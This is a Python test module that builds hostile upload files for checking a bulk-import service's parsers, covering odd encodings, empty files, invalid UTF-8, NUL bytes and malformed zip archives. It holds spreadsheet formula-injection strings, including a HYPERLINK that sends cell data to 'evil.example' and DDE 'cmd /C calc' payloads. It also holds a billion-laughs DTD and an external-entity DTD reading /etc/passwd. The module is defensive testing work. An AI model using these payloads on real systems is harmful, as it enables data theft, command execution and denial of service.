"""A corpus of hostile upload files, built at test time (nothing large is committed).

Each case is a small function of the job kind it is uploaded to (its header and the rows that are
valid against the data ``test_hostile_files`` sets up) returning ``(filename, bytes)``, under a short
id; ``Case.expect`` says what the issue asks of that file beyond the rules every upload obeys (never
a 500, a published error or a valid job, nothing changed when refused, a bounded time).

The builders write every format the intake reads, by hand where the hostile part needs control over
the bytes: CSV (any encoding, delimiter, line ending), tab-delimited text, .xlsx (a zip of
SpreadsheetML parts, from a small tree of ``Node`` so cases and the property test can mutate it),
Excel's XML Spreadsheet 2003 and the plain ``<rows><row><column-name>`` XML.
"""

from __future__ import annotations

import codecs
import csv
import functools
import io
import struct
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

from bulk.registry import get_kind

REMOVAL, UNENROLMENT, AWARD, LICENCES = (
    "certification-removal",
    "unenrolment",
    "certification-award",
    "license-import",
)
KIND_SLUGS = (REMOVAL, UNENROLMENT, AWARD, LICENCES)

# --- The data the files name (test_hostile_files creates it) -----------------------------------------

CERTIFICATION = "CERT-042"  # held by every person below: what the removal files remove
AWARDED_CERTIFICATION = "CERT-HOSTILE"  # held by nobody: what the award files award
ACTIVITY = "ACT-HOSTILE"  # everyone is enrolled in it: what the unenrolment files unenrol from
LICENCE_CODE = "RN"

# People whose User ID and username are the same text, chosen so that each legacy encoding's file
# holds letters that encoding has and that read differently in the others (mojibake shows).
PEOPLE_BY_ENCODING: dict[str, tuple[str, ...]] = {
    "ascii": ("ann.lee", "bob.ray", "cy.ng"),
    "cp1252": ("zoë.brontë", "françois.núñez", "œdipe.señor"),
    "iso-8859-2": ("łukasz.żółć", "dvořák.petr", "šárka.ďurová"),
    "mac_roman": ("zoë.brontë", "ångström.öberg", "françois.núñez"),
    "shift_jis": ("山田太郎", "佐藤花子", "鈴木一郎"),
}
ACCENTED = ("zoë.brontë", "françois.núñez", "łukasz.żółć", "ångström.öberg", "山田太郎")
PEOPLE: tuple[str, ...] = tuple(dict.fromkeys(p for group in PEOPLE_BY_ENCODING.values() for p in group))

# Cells a spreadsheet would run as a formula if the results file gave them back as they are.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

TOO_MANY_ROWS = "too_many_rows"
INCORRECT_FORMAT = "incorrect_format"
EMPTY_FILE = "empty_file"
INVALID_COLUMNS = "invalid_columns"
FILE_TOO_LARGE = "file_too_large"
INVALID_DATA_FORMATS = "invalid_data_formats"
INVALID_USERS = "invalid_users"
INVALID_CERTIFICATION = "invalid_certification"

MB = 1024 * 1024


@dataclass(frozen=True)
class KindSpec:
    """What a case needs to know of the kind it is uploaded to."""

    slug: str
    header: tuple[str, ...]
    strict: bool
    max_bytes: int
    extensions: tuple[str, ...]

    @classmethod
    def of(cls, slug: str) -> KindSpec:
        kind = get_kind(slug)
        return cls(slug, tuple(c.name for c in kind.columns), kind.strict, kind.max_bytes, kind.extensions)

    def row(self, person: str, n: int = 0) -> list[str]:
        """A row that is valid against the test data, naming ``person``."""
        if self.slug == REMOVAL:
            return [CERTIFICATION, person]
        if self.slug == UNENROLMENT:
            return [person, ACTIVITY, "No"]
        if self.slug == AWARD:
            return [AWARDED_CERTIFICATION, person, "2026-01-15", "", "", "", ""]
        return [person, LICENCE_CODE, f"RN-{n + 1:04d}", "", "2026-01-15", "", "Add"]

    def rows(self, people: Iterable[str] = PEOPLE_BY_ENCODING["ascii"]) -> list[list[str]]:
        return [self.row(p, n) for n, p in enumerate(people)]

    def key_index(self) -> int:
        """The column naming the person (User ID or Username)."""
        return 1 if self.slug in (REMOVAL, AWARD) else 0


# --- Expectations -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Expect:
    """What the issue asks of one file, beyond the rules every upload obeys."""

    refused: bool | None = None  # True: must be a 400; False: must be a job; None: either
    codes: frozenset[str] | None = None  # when refused, every error's code is one of these
    error_row: int | None = None  # when refused, some error names this row
    total: int | None = None  # when a job, its number of rows
    names: tuple[str, ...] = ()  # when a job, each of these texts is a cell of its rows, exactly
    error_rows: tuple[int, ...] = ()  # when a job, these rows are errors
    neutralised: tuple[str, ...] = ()  # when a job, the results file gives each of these with a "'"
    absent: tuple[str, ...] = ()  # text that must appear nowhere in the answer or the job's rows


ANY = Expect()


def refused(*codes: str, row: int | None = None) -> Expect:
    return Expect(refused=True, codes=frozenset(codes) if codes else None, error_row=row)


def job_with(spec: KindSpec, people: Sequence[str]) -> Expect:
    return Expect(refused=False, total=len(people), names=tuple(people))


def decoded_or_refused(people: Sequence[str]) -> Expect:
    """A legacy encoding: read right, or refused as the incorrect file format — never mojibake."""
    return Expect(codes=frozenset({INCORRECT_FORMAT}), names=tuple(people))


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    make: Callable[[KindSpec], bytes]
    expect: Expect | Callable[[KindSpec], Expect] = ANY
    slow: bool = False  # builds more than a megabyte
    kinds: tuple[str, ...] = KIND_SLUGS

    @property
    def extension(self) -> str:
        return "." + self.filename.rsplit(".", 1)[-1]

    def fits(self, slug: str) -> bool:
        """The file's name is one the kind takes (a wrong name for the kind is refused before reading)."""
        return slug in self.kinds and self.extension in get_kind(slug).extensions

    def build(self, spec: KindSpec) -> tuple[str, bytes]:
        return self.filename, self.make(spec)

    def expectation(self, spec: KindSpec) -> Expect:
        return self.expect(spec) if callable(self.expect) else self.expect


CASES: list[Case] = []


def case(
    id: str,
    filename: str,
    *,
    expect: Expect | Callable[[KindSpec], Expect] = ANY,
    slow: bool = False,
    kinds: tuple[str, ...] = KIND_SLUGS,
) -> Callable[[Callable[[KindSpec], bytes]], Callable[[KindSpec], bytes]]:
    def register(make: Callable[[KindSpec], bytes]) -> Callable[[KindSpec], bytes]:
        assert all(c.id != id for c in CASES), id
        CASES.append(Case(id, filename, make, expect, slow, kinds))
        return make

    return register


def cases_by_id() -> dict[str, Case]:
    return {c.id: c for c in CASES}


# --- Delimited text -----------------------------------------------------------------------------------


def csv_text(
    header: Sequence[str], rows: Iterable[Sequence[str]], *, delimiter: str = ",", newline: str = "\r\n"
) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_bytes(
    header: Sequence[str],
    rows: Iterable[Sequence[str]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
    bom: bytes = b"",
    newline: str = "\r\n",
) -> bytes:
    return bom + csv_text(header, rows, delimiter=delimiter, newline=newline).encode(encoding)


def fill_to(head: bytes, unit: bytes, size: int) -> bytes:
    """``head`` followed by as many ``unit`` as fit in ``size`` bytes."""
    return head + unit * ((size - len(head)) // len(unit))


# --- XML ----------------------------------------------------------------------------------------------


def xml_escape(text: str, *, attribute: bool = False) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    # A carriage return or tab written as is would be normalised away by any XML parser.
    text = text.replace("\r", "&#13;")
    if attribute:
        text = text.replace('"', "&quot;").replace("\t", "&#9;").replace("\n", "&#10;")
    return text


@dataclass
class Node:
    """An XML element, small enough to build a workbook from and to mutate."""

    tag: str
    attrs: dict[str, str] = field(default_factory=dict)
    children: list[Node] = field(default_factory=list)
    text: str = ""
    raw: str | None = None  # written as is instead of escaped text (entities, CDATA, NUL bytes)

    def render(self) -> str:
        """The element as XML text (without recursion: a mutated tree may be thousands deep)."""
        out: list[str] = []
        stack: list[Node | str] = [self]
        while stack:
            item = stack.pop()
            if isinstance(item, str):
                out.append(item)
                continue
            attrs = "".join(f' {k}="{xml_escape(v, attribute=True)}"' for k, v in item.attrs.items())
            text = item.raw if item.raw is not None else xml_escape(item.text)
            if not text and not item.children:
                out.append(f"<{item.tag}{attrs}/>")
                continue
            out.append(f"<{item.tag}{attrs}>{text}")
            stack.append(f"</{item.tag}>")
            stack.extend(reversed(item.children))
        return "".join(out)

    def clone(self) -> Node:
        """A deep copy, without recursion (copy.deepcopy overflows the stack on a deepened tree)."""
        top = Node(self.tag, dict(self.attrs), [], self.text, self.raw)
        stack = [(self, top)]
        while stack:
            source, target = stack.pop()
            for child in source.children:
                copied = Node(child.tag, dict(child.attrs), [], child.text, child.raw)
                target.children.append(copied)
                stack.append((child, copied))
        return top

    def walk(self) -> Iterable[tuple[Node | None, int, Node]]:
        """(parent, index in parent, node) for this node and every node below it, in document order."""
        stack: list[tuple[Node | None, int, Node]] = [(None, 0, self)]
        while stack:
            parent, index, node = stack.pop()
            yield parent, index, node
            stack.extend((node, i, child) for i, child in reversed(list(enumerate(node.children))))

    def find(self, tag: str) -> Node:
        return next(n for _, _, n in self.walk() if n.tag == tag)

    def find_all(self, tag: str) -> list[Node]:
        return [n for _, _, n in self.walk() if n.tag == tag]


XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def document(root: Node, *, prolog: str = XML_DECLARATION) -> bytes:
    return (prolog + root.render()).encode("utf-8")


def tag_of(column: str) -> str:
    return "-".join(column.lower().split())


def plain_xml_tree(header: Sequence[str], rows: Iterable[Sequence[str]]) -> Node:
    return Node(
        "rows",
        children=[
            Node("row", children=[Node(tag_of(h), text=v) for h, v in zip(header, row, strict=False)])
            for row in rows
        ],
    )


def plain_xml(
    header: Sequence[str], rows: Iterable[Sequence[str]], *, prolog: str = XML_DECLARATION
) -> bytes:
    return document(plain_xml_tree(header, rows), prolog=prolog)


SS = "urn:schemas-microsoft-com:office:spreadsheet"


def xml_2003_tree(rows: Iterable[Sequence[str]]) -> Node:
    table = Node(
        "Table",
        children=[
            Node(
                "Row",
                children=[Node("Cell", children=[Node("Data", {"ss:Type": "String"}, text=v)]) for v in row],
            )
            for row in rows
        ],
    )
    return Node(
        "Workbook",
        {"xmlns": SS, "xmlns:ss": SS, "xmlns:o": "urn:schemas-microsoft-com:office:office"},
        [Node("Worksheet", {"ss:Name": "Sheet1"}, [table])],
    )


XML_2003_PROLOG = XML_DECLARATION + '<?mso-application progid="Excel.Sheet"?>\n'


def xml_2003(rows: Iterable[Sequence[str]]) -> bytes:
    return document(xml_2003_tree(rows), prolog=XML_2003_PROLOG)


def table_of(spec: KindSpec, rows: Iterable[Sequence[str]]) -> list[list[str]]:
    return [list(spec.header), *[list(r) for r in rows]]


# --- .xlsx --------------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
SHEET_PATH = "xl/worksheets/sheet1.xml"
SHARED_PATH = "xl/sharedStrings.xml"
STYLES_PATH = "xl/styles.xml"
WORKBOOK_PATH = "xl/workbook.xml"
RELS_PATH = "xl/_rels/workbook.xml.rels"
DATE_STYLE = "1"  # the cellXfs entry whose number format is a date


@dataclass(frozen=True)
class Cell:
    """A cell that is not plain text: a number (``t`` None), a boolean, an error, a date-styled number."""

    value: str
    t: str | None = None
    s: str | None = None


def column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def workbook_tree(rows: Sequence[Sequence[str | Cell]], *, shared: bool = True) -> dict[str, Node]:
    """The parts of a one-sheet workbook holding ``rows`` (text in shared strings, or inline)."""
    strings: dict[str, int] = {}
    sheet_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{column_letters(c)}{r}"
            if isinstance(value, Cell):
                attrs = {
                    "r": ref,
                    **({"t": value.t} if value.t else {}),
                    **({"s": value.s} if value.s else {}),
                }
                cells.append(Node("c", attrs, [Node("v", text=value.value)]))
            elif shared:
                index = strings.setdefault(value, len(strings))
                cells.append(Node("c", {"r": ref, "t": "s"}, [Node("v", text=str(index))]))
            else:
                cells.append(
                    Node(
                        "c",
                        {"r": ref, "t": "inlineStr"},
                        [Node("is", children=[Node("t", {"xml:space": "preserve"}, text=value)])],
                    )
                )
        sheet_rows.append(Node("row", {"r": str(r)}, cells))
    parts = {
        "[Content_Types].xml": Node(
            "Types",
            {"xmlns": CONTENT_TYPES},
            [
                Node(
                    "Default",
                    {
                        "Extension": "rels",
                        "ContentType": "application/vnd.openxmlformats-package.relationships+xml",
                    },
                ),
                Node("Default", {"Extension": "xml", "ContentType": "application/xml"}),
                Node(
                    "Override",
                    {
                        "PartName": "/xl/workbook.xml",
                        "ContentType": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    },
                ),
                Node(
                    "Override",
                    {
                        "PartName": "/" + SHEET_PATH,
                        "ContentType": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
                    },
                ),
                Node(
                    "Override",
                    {
                        "PartName": "/" + SHARED_PATH,
                        "ContentType": "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
                    },
                ),
                Node(
                    "Override",
                    {
                        "PartName": "/" + STYLES_PATH,
                        "ContentType": "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
                    },
                ),
            ],
        ),
        "_rels/.rels": Node(
            "Relationships",
            {"xmlns": PKG_REL},
            [
                Node(
                    "Relationship",
                    {"Id": "rId1", "Type": DOC_REL + "/officeDocument", "Target": "xl/workbook.xml"},
                )
            ],
        ),
        WORKBOOK_PATH: Node(
            "workbook",
            {"xmlns": MAIN, "xmlns:r": DOC_REL},
            [Node("sheets", children=[Node("sheet", {"name": "Sheet1", "sheetId": "1", "r:id": "rId1"})])],
        ),
        RELS_PATH: Node(
            "Relationships",
            {"xmlns": PKG_REL},
            [
                Node(
                    "Relationship",
                    {"Id": "rId1", "Type": DOC_REL + "/worksheet", "Target": "worksheets/sheet1.xml"},
                ),
                Node("Relationship", {"Id": "rId2", "Type": DOC_REL + "/styles", "Target": "styles.xml"}),
                Node(
                    "Relationship",
                    {"Id": "rId3", "Type": DOC_REL + "/sharedStrings", "Target": "sharedStrings.xml"},
                ),
            ],
        ),
        STYLES_PATH: Node(
            "styleSheet",
            {"xmlns": MAIN},
            [
                Node(
                    "numFmts",
                    {"count": "1"},
                    [Node("numFmt", {"numFmtId": "164", "formatCode": "yyyy-mm-dd"})],
                ),
                Node("fonts", {"count": "1"}, [Node("font", children=[Node("sz", {"val": "11"})])]),
                Node(
                    "fills",
                    {"count": "1"},
                    [Node("fill", children=[Node("patternFill", {"patternType": "none"})])],
                ),
                Node("borders", {"count": "1"}, [Node("border")]),
                Node("cellStyleXfs", {"count": "1"}, [Node("xf", {"numFmtId": "0"})]),
                Node(
                    "cellXfs",
                    {"count": "2"},
                    [
                        Node("xf", {"numFmtId": "0"}),
                        Node("xf", {"numFmtId": "164", "applyNumberFormat": "1"}),
                    ],
                ),
                Node(
                    "cellStyles",
                    {"count": "1"},
                    [Node("cellStyle", {"name": "Normal", "xfId": "0", "builtinId": "0"})],
                ),
            ],
        ),
        SHARED_PATH: Node(
            "sst",
            {"xmlns": MAIN, "count": str(len(strings)), "uniqueCount": str(len(strings))},
            [Node("si", children=[Node("t", {"xml:space": "preserve"}, text=s)]) for s in strings],
        ),
        SHEET_PATH: Node("worksheet", {"xmlns": MAIN}, [Node("sheetData", children=sheet_rows)]),
    }
    return parts


def zip_parts(parts: dict[str, Node | bytes | str], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, part in parts.items():
            if isinstance(part, Node):
                content = document(part)
            elif isinstance(part, str):
                content = part.encode("utf-8")
            else:
                content = part
            archive.writestr(name, content)
    return buffer.getvalue()


def xlsx(rows: Sequence[Sequence[str | Cell]], *, shared: bool = True) -> bytes:
    return zip_parts(dict(workbook_tree(rows, shared=shared)))


def xlsx_with(
    rows: Sequence[Sequence[str | Cell]], change: Callable[[dict[str, Any]], None], *, shared: bool = True
) -> bytes:
    """A workbook of ``rows`` with its parts changed by ``change`` before zipping."""
    parts: dict[str, Any] = dict(workbook_tree(rows, shared=shared))
    change(parts)
    return zip_parts(parts)


def sheet_xml_around(
    rows: Sequence[Sequence[str]], filler: bytes, repeat: int, chunk: int = 4096
) -> Iterable[bytes]:
    """A worksheet's XML with ``rows`` (inline strings) and then ``filler`` repeated ``repeat`` times
    inside sheetData, in blocks, never held whole."""
    body = "".join(
        Node(
            "row",
            {"r": str(r)},
            [Node("c", {"t": "inlineStr"}, [Node("is", children=[Node("t", text=v)])]) for v in row],
        ).render()
        for r, row in enumerate(rows, start=1)
    )
    yield (XML_DECLARATION + f'<worksheet xmlns="{MAIN}"><sheetData>' + body).encode()
    block = filler * chunk
    whole, rest = divmod(repeat, chunk)
    for _ in range(whole):
        yield block
    yield filler * rest
    yield b"</sheetData></worksheet>"


def streamed_xlsx(rows: Sequence[Sequence[str]], filler: bytes, repeat: int, *, level: int = 9) -> bytes:
    """A workbook whose sheet is ``rows`` followed by ``repeat`` copies of ``filler``, compressed as it is written."""
    parts: dict[str, Node | bytes | str] = dict(workbook_tree(rows[:0]))
    del parts[SHEET_PATH]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, part in parts.items():
            archive.writestr(name, document(part) if isinstance(part, Node) else part)
        with archive.open(SHEET_PATH, "w", force_zip64=False) as sheet:
            for block in sheet_xml_around(rows, filler, repeat):
                sheet.write(block)
    return buffer.getvalue()


def patch_entry(
    data: bytes,
    name: str,
    *,
    file_size: int | None = None,
    compress_size: int | None = None,
    flags_or: int = 0,
    method: int | None = None,
) -> bytes:
    """Rewrite fields of one member's local header and central directory entry (struct, not zipfile)."""
    out = bytearray(data)
    encoded = name.encode()
    local = 0
    while (local := out.find(b"PK\x03\x04", local)) != -1:
        if out[local + 30 : local + 30 + len(encoded)] == encoded:
            _patch(
                out,
                local,
                flags=6,
                method_at=8,
                csize=18,
                usize=22,
                file_size=file_size,
                compress_size=compress_size,
                flags_or=flags_or,
                method=method,
            )
        local += 4
    central = 0
    while (central := out.find(b"PK\x01\x02", central)) != -1:
        if out[central + 46 : central + 46 + len(encoded)] == encoded:
            _patch(
                out,
                central,
                flags=8,
                method_at=10,
                csize=20,
                usize=24,
                file_size=file_size,
                compress_size=compress_size,
                flags_or=flags_or,
                method=method,
            )
        central += 4
    return bytes(out)


def _patch(
    out: bytearray,
    at: int,
    *,
    flags: int,
    method_at: int,
    csize: int,
    usize: int,
    file_size: int | None,
    compress_size: int | None,
    flags_or: int,
    method: int | None,
) -> None:
    if file_size is not None:
        struct.pack_into("<I", out, at + usize, file_size)
    if compress_size is not None:
        struct.pack_into("<I", out, at + csize, compress_size)
    if flags_or:
        (value,) = struct.unpack_from("<H", out, at + flags)
        struct.pack_into("<H", out, at + flags, value | flags_or)
    if method is not None:
        struct.pack_into("<H", out, at + method_at, method)


def member_span(data: bytes, name: str) -> tuple[int, int]:
    """Where a member's compressed bytes lie in the archive."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    start = info.header_offset
    name_length, extra_length = struct.unpack_from("<HH", data, start + 26)
    begin = start + 30 + name_length + extra_length
    return begin, begin + info.compress_size


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"\xfe\xff\xff\xff" * 128

BILLION_LAUGHS_DTD = (
    '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 2 else "") + ";") * 10}">\n' for n in range(2, 10)
    )
    + "]>\n"
)
EXTERNAL_DTD = '<!DOCTYPE rows [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'


# =====================================================================================================
# The cases. Row numbers count the header as row 1, as a spreadsheet does.
# =====================================================================================================

ASCII = PEOPLE_BY_ENCODING["ascii"]


def controls_expect(spec: KindSpec) -> Expect:
    return job_with(spec, ACCENTED)


# --- Controls: a valid file in each format (shows the corpus builder makes real files) ---------------


@case("control-csv-utf8", "people.csv", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED))


@case("control-csv-utf8-bom-semicolon", "people.csv", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), delimiter=";", bom=codecs.BOM_UTF8)


@case("control-csv-utf16-tab", "people.csv", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), delimiter="\t", encoding="utf-16")


@case("control-txt-tab-utf8", "people.txt", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), delimiter="\t")


@case("control-txt-unicode-text", "people.txt", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return csv_bytes(
        k.header, k.rows(ACCENTED), delimiter="\t", encoding="utf-16-le", bom=codecs.BOM_UTF16_LE
    )


@case("control-xlsx", "people.xlsx", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return xlsx(table_of(k, k.rows(ACCENTED)))


@case("control-xlsx-inline-strings", "people.xlsx", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return xlsx(table_of(k, k.rows(ACCENTED)), shared=False)


@case("control-xml-2003", "people.xml", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return xml_2003(table_of(k, k.rows(ACCENTED)))


@case("control-xml-plain", "people.xml", expect=controls_expect)
def _(k: KindSpec) -> bytes:
    return plain_xml(k.header, k.rows(ACCENTED))


# --- Encodings ----------------------------------------------------------------------------------------


@case(
    "csv-windows-1252",
    "legacy.csv",
    expect=lambda k: job_with(k, PEOPLE_BY_ENCODING["cp1252"]),  # a published format: must be read
)
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(PEOPLE_BY_ENCODING["cp1252"]), encoding="cp1252", delimiter=";")


@case("csv-latin-2", "legacy.csv", expect=decoded_or_refused(PEOPLE_BY_ENCODING["iso-8859-2"]))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(PEOPLE_BY_ENCODING["iso-8859-2"]), encoding="iso-8859-2")


@case("csv-mac-roman", "legacy.csv", expect=decoded_or_refused(PEOPLE_BY_ENCODING["mac_roman"]))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(PEOPLE_BY_ENCODING["mac_roman"]), encoding="mac_roman", newline="\r")


@case("csv-shift-jis", "legacy.csv", expect=decoded_or_refused(PEOPLE_BY_ENCODING["shift_jis"]))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(PEOPLE_BY_ENCODING["shift_jis"]), encoding="shift_jis")


@case("txt-shift-jis", "legacy.txt", expect=decoded_or_refused(PEOPLE_BY_ENCODING["shift_jis"]))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(PEOPLE_BY_ENCODING["shift_jis"]), encoding="shift_jis", delimiter="\t")


@case("csv-utf16-be-without-bom", "people.csv", expect=decoded_or_refused(ACCENTED))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), encoding="utf-16-be")


@case("xml-plain-declared-latin-2", "legacy.xml", expect=decoded_or_refused(PEOPLE_BY_ENCODING["iso-8859-2"]))
def _(k: KindSpec) -> bytes:
    text = plain_xml_tree(k.header, k.rows(PEOPLE_BY_ENCODING["iso-8859-2"])).render()
    return ('<?xml version="1.0" encoding="ISO-8859-2"?>\n' + text).encode("iso-8859-2")


@case("xml-2003-declared-shift-jis", "legacy.xml", expect=decoded_or_refused(PEOPLE_BY_ENCODING["shift_jis"]))
def _(k: KindSpec) -> bytes:
    text = xml_2003_tree(table_of(k, k.rows(PEOPLE_BY_ENCODING["shift_jis"]))).render()
    return ('<?xml version="1.0" encoding="Shift_JIS"?>\n' + text).encode("shift_jis")


@case("xml-plain-declared-unknown-encoding", "legacy.xml", expect=refused(INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return ('<?xml version="1.0" encoding="TTF-8"?>\n' + plain_xml_tree(k.header, k.rows()).render()).encode()


@case("xml-plain-declared-utf-7", "legacy.xml", expect=decoded_or_refused(ACCENTED))
def _(k: KindSpec) -> bytes:
    text = plain_xml_tree(k.header, k.rows(ACCENTED)).render()
    return ('<?xml version="1.0" encoding="UTF-7"?>\n' + text).encode("utf-7")


@case("xml-plain-utf16", "people.xml", expect=decoded_or_refused(ACCENTED))
def _(k: KindSpec) -> bytes:
    text = plain_xml_tree(k.header, k.rows(ACCENTED)).render()
    return ('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16")


# --- Invalid UTF-8: the bad row is named, the other rows keep their accents ---------------------------

BAD_UTF8_PEOPLE = ("zoë.brontë", "françois.núñez", "łukasz.żółć")


def bad_byte_expect(spec: KindSpec) -> Expect:
    if spec.strict:
        return Expect(refused=True, error_row=3)
    return Expect(refused=False, total=3, error_rows=(3,), names=(BAD_UTF8_PEOPLE[0], BAD_UTF8_PEOPLE[2]))


def with_bad_bytes(spec: KindSpec, bad: bytes, *, delimiter: str = ",") -> bytes:
    data = csv_bytes(spec.header, spec.rows(BAD_UTF8_PEOPLE), delimiter=delimiter)
    good = BAD_UTF8_PEOPLE[1].encode()
    return data.replace(good, good[:5] + bad + good[5:], 1)  # row 3: "franç" + bad + "ois.núñez"


@case("csv-utf8-one-bad-byte", "accents.csv", expect=bad_byte_expect)
def _(k: KindSpec) -> bytes:
    return with_bad_bytes(k, b"\xff")


@case("txt-utf8-one-bad-byte", "accents.txt", expect=bad_byte_expect)
def _(k: KindSpec) -> bytes:
    return with_bad_bytes(k, b"\xff", delimiter="\t")


@case("csv-utf8-truncated-sequence", "accents.csv", expect=bad_byte_expect)
def _(k: KindSpec) -> bytes:
    return with_bad_bytes(k, b"\xe2\x82")  # the first two bytes of "€"


@case("csv-utf8-encoded-surrogate", "accents.csv", expect=bad_byte_expect)
def _(k: KindSpec) -> bytes:
    return with_bad_bytes(k, b"\xed\xa0\x80")  # U+D800 in (invalid) UTF-8


@case("xml-plain-bad-utf8-byte", "accents.xml")
def _(k: KindSpec) -> bytes:
    data = plain_xml(k.header, k.rows(BAD_UTF8_PEOPLE))
    good = BAD_UTF8_PEOPLE[1].encode()
    return data.replace(good, good[:5] + b"\xff" + good[5:], 1)


@case("csv-utf16-odd-length", "people.csv")
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), encoding="utf-16")[:-1]


@case("csv-utf16-lone-surrogate", "people.csv")
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, k.rows(ACCENTED), encoding="utf-16-le", bom=codecs.BOM_UTF16_LE) + b"\x00\xd8"


# --- Empty, BOM-only, header-only ---------------------------------------------------------------------


@case("empty-file", "empty.csv", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return b""


@case("empty-file-xlsx", "empty.xlsx", expect=refused(EMPTY_FILE, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return b""


@case("empty-file-xml", "empty.xml", expect=refused(EMPTY_FILE, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return b""


@case("bom-only-utf8", "bom.csv", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return codecs.BOM_UTF8


@case("bom-only-utf16-le", "bom.csv", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return codecs.BOM_UTF16_LE


@case("bom-only-utf16-be", "bom.txt", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return codecs.BOM_UTF16_BE


@case("bom-only-utf32-le", "bom.csv", expect=refused())
def _(k: KindSpec) -> bytes:
    return codecs.BOM_UTF32_LE


@case("whitespace-only", "blank.csv", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return b" \r\n\t\r\n  \n\n"


@case("csv-delimiters-only", "commas.csv", expect=refused(EMPTY_FILE, INVALID_COLUMNS))
def _(k: KindSpec) -> bytes:
    return b",,,\r\n;;;\r\n\t\t\r\n"


@case("csv-header-only", "header.csv", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, [])


@case("csv-header-then-blank-lines", "header.csv", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return csv_bytes(k.header, []) + b"\r\n" * 50 + b" , \r\n"


@case("xlsx-header-only", "header.xlsx", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return xlsx([list(k.header)])


@case("xml-plain-no-rows", "header.xml", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return b'<?xml version="1.0"?><rows/>'


@case("xml-2003-header-only", "header.xml", expect=refused(EMPTY_FILE))
def _(k: KindSpec) -> bytes:
    return xml_2003([list(k.header)])


@case("xml-2003-empty-workbook", "header.xml", expect=refused(EMPTY_FILE, INCORRECT_FORMAT))
def _(k: KindSpec) -> bytes:
    return f'<?xml version="1.0"?><Workbook xmlns="{SS}"/>'.encode()


# --- NUL bytes ----------------------------------------------------------------------------------------


@case("csv-nul-in-cell", "nul.csv")
def _(k: KindSpec) -> bytes:
    rows = k.rows()
    rows[1][k.key_index()] = "bob\x00ray"
    return csv_bytes(k.header, rows)


